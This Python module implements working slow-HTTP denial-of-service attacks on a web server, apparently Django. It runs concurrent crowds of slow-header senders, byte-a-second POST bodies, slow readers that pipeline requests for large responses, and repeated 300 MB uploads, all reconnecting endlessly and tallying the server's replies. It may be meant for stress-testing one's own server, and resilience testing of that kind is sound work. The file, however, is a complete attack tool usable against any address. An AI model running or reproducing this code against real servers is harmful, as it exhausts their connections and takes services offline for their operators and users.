"""Visitors that keep a web server busy without signing in: slow senders, slow readers and endless uploads."""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from multiprocessing.connection import Connection
from urllib.parse import urlsplit

#: Seconds between the bytes of somebody slow, and until somebody whose connection was closed is there again.
PAUSE = 1.0
BLOCK = b"x" * 65_536
#: Any form that everybody may see.
FORM = "/sign-in/"


@dataclass(frozen=True)
class Crowd:
    """How many of each kind attack at once; `upload` is the size of each upload in bytes."""

    slow_bodies: int = 50
    slow_headers: int = 50
    slow_readers: int = 50
    uploads: int = 10
    upload: int = 300_000_000

    def __str__(self) -> str:
        return (
            f"{self.slow_bodies} slow bodies, {self.slow_headers} slow headers, {self.slow_readers} slow readers "
            f"and {self.uploads} uploads of {self.upload / 1_000_000:.0f} MB"
        )


@dataclass
class Attack:
    """One crowd against one server. `cookie`: a CSRF cookie of it, without which Django reads no body."""

    address: str
    crowd: Crowd
    cookie: str
    large: str  # the path of a large answer
    happened: Counter[str] = field(default_factory=Counter)

    @property
    def host(self) -> str:
        return urlsplit(self.address).netloc

    async def run(self) -> None:
        crowd = self.crowd
        kinds: list[tuple[int, Callable[[], Awaitable[None]]]] = [
            (crowd.slow_bodies, self._slow_body),
            (crowd.slow_headers, self._slow_headers),
            (crowd.slow_readers, self._slow_reader),
            (crowd.uploads, self._upload),
        ]
        async with asyncio.TaskGroup() as group:
            for number, kind in kinds:
                for _ in range(number):
                    group.create_task(self._again_and_again(kind))

    async def _again_and_again(self, once: Callable[[], Awaitable[None]]) -> None:
        while True:
            with contextlib.suppress(OSError):
                await once()
            self.happened[f"{once.__name__[1:]} ended"] += 1
            await asyncio.sleep(PAUSE)

    async def _connect(self, *, window: int = 0) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        place = urlsplit(self.address)
        connection = socket.socket()
        connection.setblocking(False)
        if window:  # before connecting: the server is told then how much fits
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        await asyncio.get_running_loop().sock_connect(connection, (place.hostname, place.port))
        return await asyncio.open_connection(sock=connection, limit=window or 65_536)

    def _head(self, length: int, kind: str = "application/x-www-form-urlencoded") -> bytes:
        return (
            f"POST {FORM} HTTP/1.1\r\nHost: {self.host}\r\nCookie: {self.cookie}\r\n"
            f"Content-Type: {kind}\r\nContent-Length: {length}\r\n\r\n"
        ).encode()

    async def _slow_body(self) -> None:
        """Send a form of 100 KB at a byte a second."""
        reader, writer = await self._connect()
        try:
            writer.write(self._head(100_000) + b"username=a")
            await self._drip(reader, writer)
        finally:
            writer.close()

    async def _slow_headers(self) -> None:
        reader, writer = await self._connect()
        try:
            writer.write(f"GET {FORM} HTTP/1.1\r\nHost: {self.host}\r\nX-Slow: ".encode())
            await self._drip(reader, writer)
        finally:
            writer.close()

    async def _drip(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send a byte a second until the server answers or closes."""
        answer = asyncio.ensure_future(first(reader))
        while not answer.done():
            writer.write(b"a")
            await writer.drain()
            await asyncio.wait([answer], timeout=PAUSE)
        self.happened[f"slow sender answered {answer.result()}"] += 1

    async def _slow_reader(self) -> None:
        """Ask for a large answer twenty times in one write, and read it at a byte a second."""
        reader, writer = await self._connect(window=2048)
        try:
            writer.write(f"GET {self.large} HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode() * 20)
            while await reader.read(1):
                await asyncio.sleep(PAUSE)
        finally:
            writer.transport.abort()

    async def _upload(self) -> None:
        """Send a file as fast as the server takes it."""
        reader, writer = await self._connect()
        head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
        try:
            writer.write(self._head(self.crowd.upload, "multipart/form-data; boundary=b") + head)
            answer = asyncio.ensure_future(first(reader))
            for _ in range(self.crowd.upload // len(BLOCK)):
                if answer.done():
                    break
                writer.write(BLOCK)
                await writer.drain()
                self.happened["bytes of uploads sent"] += len(BLOCK)
            self.happened[f"upload answered {await answer}"] += 1
        finally:
            writer.transport.abort()


async def first(reader: asyncio.StreamReader) -> str:
    """The status of the answer; "nothing" when the connection is closed without one."""
    try:
        return (await reader.read(100))[9:12].decode() or "nothing"
    except OSError:
        return "nothing"


def attack(attack: Attack, seconds: float, report: Connection) -> None:
    """Run the attack for `seconds`, then send what happened. For a process of its own."""

    async def limited() -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await attack.run()

    asyncio.run(limited())
    report.send(dict(attack.happened))
